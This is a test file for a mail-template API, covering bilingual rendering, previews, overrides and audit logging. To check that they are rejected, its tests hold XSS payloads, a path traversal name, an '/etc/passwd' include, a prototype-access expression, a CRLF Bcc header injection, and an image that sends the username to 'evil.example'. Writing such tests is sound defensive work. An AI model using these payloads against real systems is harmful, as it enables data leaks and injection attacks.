import { TemplateRenderer } from '../src/templates/template-renderer.js';
import { TemplateSources } from '../src/templates/template-sources.js';
import { createTestApp, mailTo, type SignedInClient, type TestApp } from '@roost/testing';

interface Template {
  name: string;
  locales: string[];
  overriddenLocales: string[];
}

interface TemplateText {
  locale: string;
  subject: string;
  body: string;
  overridden: boolean;
  sample: Record<string, unknown>;
}

interface Preview {
  subject: string;
  html: string;
  text: string;
}

const PROJECT = '01a1fb4b-2565-741a-844b-e95db20fbf1e';

describe('Mail templates', () => {
  let app: TestApp;
  let admin: SignedInClient;
  beforeAll(async () => {
    app = await createTestApp({ worker: true });
    admin = await app.signUpAdmin();
  });
  afterAll(async () => {
    await app.close();
  });

  it('are all written in English and Swedish, and can be filled in by their samples', async () => {
    const sources = app.api.get(TemplateSources, { strict: false });
    const renderer = app.api.get(TemplateRenderer, { strict: false });
    const templates = await sources.list();
    expect(templates.length).toBeGreaterThan(10);
    for (const { name, locales } of templates) {
      expect([name, locales]).toEqual([name, ['en', 'sv']]);
      const sample = await sources.sample(name);
      const [en, sv] = await Promise.all(['en', 'sv'].map((locale) => renderer.render(PROJECT, name, locale, sample)));
      for (const mail of [en, sv]) {
        expect(mail?.subject).toMatch(/^\S[^\n]+\S$/);
        expect(mail?.html).not.toContain('{{');
        // Opening a mail tells nobody.
        expect(mail?.html).not.toMatch(/googleapis|@import|<link|<img|url\(/);
        expect(mail?.text.length).toBeGreaterThan(50);
        expect(mail?.text).not.toMatch(/\{\{|<mj|&#x/);
        if (typeof sample.url === 'string') expect(mail?.text).toContain(sample.url);
      }
      expect(en?.subject).not.toBe(sv?.subject);
    }
  });

  it('escape what they are filled with', async () => {
    const renderer = app.api.get(TemplateRenderer, { strict: false });
    const data = { username: '<script>alert(1)</script>', url: 'https://x.example' };
    const { html } = await renderer.render(PROJECT, 'auth.welcome', 'en', data);
    expect(html).not.toContain('<script>');
  });

  describe('GET /mail/templates', () => {
    it('lists them, for those who may', async () => {
      const { data } = await admin.get<Template[]>('/mail/templates');
      expect(data).toContainEqual({ name: 'auth.welcome', locales: ['en', 'sv'], overriddenLocales: [] });
      expect((await (await app.client.signUp()).get('/mail/templates')).status).toBe(403);
    });

    it('shows one', async () => {
      const { data } = await admin.get<TemplateText>('/mail/templates/auth.welcome?locale=sv');
      expect(data).toMatchObject({ locale: 'sv', subject: 'Välkommen till {{ appName }}', overridden: false });
      expect(data.sample).toHaveProperty('username');
    });

    it.each(['auth.nothing', 'nothing', '..%2f..%2fpackage', 'auth.welcome.en'])('knows no %s', async (name) => {
      const { status, body } = await admin.get(`/mail/templates/${name}`);
      expect([status, body.code]).toEqual([404, 'mail.unknown_template']);
    });
  });

  describe('POST /mail/templates/:name/preview', () => {
    const preview = async (draft: object) => admin.post<Preview>('/mail/templates/auth.welcome/preview', draft);

    it('fills the template in, as HTML and text', async () => {
      const { status, data } = await preview({ locale: 'sv', data: { name: 'Åsa' } });
      expect(status).toBe(200);
      expect(data.html).toContain('Åsa');
      expect(data.text).toContain('Hej Åsa,');
      expect(data.subject).toBe('Välkommen till Roost');
    });

    it('tries another text, and keeps nothing', async () => {
      const { data } = await preview({ subject: 'Hi {{username}}', body: '<mj-text>Just {{username}}</mj-text>' });
      expect(data).toMatchObject({ subject: 'Hi ada', text: expect.stringContaining('Just ada') as string });
      expect((await preview({})).data.subject).toBe('Welcome to Roost');
    });

    it.each([
      ['an unknown attribute', { body: '<mj-text colour="red">x</mj-text>' }],
      ['an unknown tag', { body: '<mj-nothing>x</mj-nothing>' }],
      ['handlebars that is none', { body: '<mj-text>{{#if}}</mj-text>' }],
      ['data that is not there', { body: '<mj-text>{{nobody}}</mj-text>' }],
      ['a prototype', { body: '<mj-text>{{username.constructor.constructor}}</mj-text>' }],
      ['a partial', { body: '<mj-text>{{> secret}}</mj-text>' }],
      ['a file', { body: '<mj-include path="/etc/passwd" /><mj-text>x</mj-text>' }],
      ['a code for somebody else', { body: '<mj-image src="https://evil.example/{{username}}" />' }],
      ['a script', { body: '<mj-raw><script>alert(1)</script></mj-raw>' }],
    ])('refuses %s', async (_what, draft) => {
      const { status, body } = await preview(draft);
      expect([status, body.code]).toEqual([400, 'mail.invalid_template']);
    });

    it('tells part and line of each fault', async () => {
      const { body } = await preview({
        subject: '{{nobody}}',
        body: '<mj-text>x</mj-text>\n<mj-text>{{nobody}}</mj-text>',
      });
      expect(body.errors).toMatchObject([
        { pointer: '/subject', detail: 'subject: "nobody" is not in the sample data' },
        { pointer: '/body', detail: 'body, line 2: "nobody" is not in the sample data' },
      ]);
    });

    it('counts lines as the template does where MJML finds the fault', async () => {
      const { body } = await preview({ body: '<mj-text>x</mj-text>\n<mj-text colour="red">y</mj-text>' });
      expect(body.detail).toBe('body, line 2: <mj-text>: Attribute colour is illegal');
    });

    it('finds what MJML itself would load from elsewhere', async () => {
      const body =
        '<mj-social><mj-social-element name="github" href="https://github.com">x</mj-social-element></mj-social>';
      expect((await preview({ body })).body).toMatchObject({
        code: 'mail.invalid_template',
        detail: expect.stringContaining('mails load nothing from elsewhere') as string,
      });
    });

    it('follows no link of data that is a script', async () => {
      const draft = { body: '<mj-text><a href="{{url}}">x</a></mj-text>', data: { url: 'javascript:alert(1)' } };
      expect((await preview(draft)).body.code).toBe('mail.invalid_template');
    });
  });

  describe('PUT and DELETE /mail/templates/:name', () => {
    it('take the project’s own text, and the plugin’s again', async () => {
      const own = {
        locale: 'en',
        subject: 'Hej {{username}}',
        body: '<mj-text>Our own words, {{username}}.</mj-text>',
      };
      const saved = await admin.put<TemplateText>('/mail/templates/auth.welcome', own);
      expect(saved.data).toMatchObject({ ...own, overridden: true });
      const { account } = await app.client.signUp();
      const mail = await mailTo(app.client, account.email, /^Hej/);
      expect(mail.text).toContain(`Our own words, ${account.username}.`);

      expect((await admin.delete('/mail/templates/auth.welcome?locale=en')).status).toBe(200);
      const { account: next } = await app.client.signUp();
      expect((await mailTo(app.client, next.email, /./)).subject).toBe('Welcome to Roost');
      const { data } = await admin.get<{ action: string }[]>('/admin/audit?target=mail-template:auth.welcome');
      expect(data.map(({ action }) => action)).toEqual(['mail.template-reset', 'mail.template-changed']);
    });

    it('keep nothing that could not be sent', async () => {
      const bad = { locale: 'en', subject: 'x', body: '<mj-text>{{nobody}}</mj-text>' };
      expect((await admin.put('/mail/templates/auth.welcome', bad)).body.code).toBe('mail.invalid_template');
      const foreign = { ...bad, body: '<mj-image src="https://evil.example/{{username}}" />' };
      expect((await admin.put('/mail/templates/auth.welcome', foreign)).body.code).toBe('mail.invalid_template');
      const lines = { locale: 'en', subject: 'x\r\nBcc: y@example.org', body: '<mj-text>x</mj-text>' };
      expect((await admin.put('/mail/templates/auth.welcome', lines)).status).toBe(400);
      expect((await admin.get<TemplateText>('/mail/templates/auth.welcome')).data.overridden).toBe(false);
    });

    it('gives way to the plugin’s text when the project’s, kept before there was a rule, breaks it', async () => {
      const [{ project_id: projectId } = { project_id: '' }] = await app
        .em()
        .execute<{ project_id: string }[]>('select project_id from users_user limit 1');
      await app
        .em()
        .execute(
          `insert into mail_template (project_id, name, locale, subject, body) values (?, 'auth.welcome', 'en', 'Own', ?)`,
          [projectId, '<mj-image src="https://evil.example/{{username}}" />'],
        );
      const { account } = await app.client.signUp();
      expect((await mailTo(app.client, account.email, /./)).subject).toBe('Welcome to Roost');
      await admin.delete('/mail/templates/auth.welcome?locale=en');
    });
  });
});
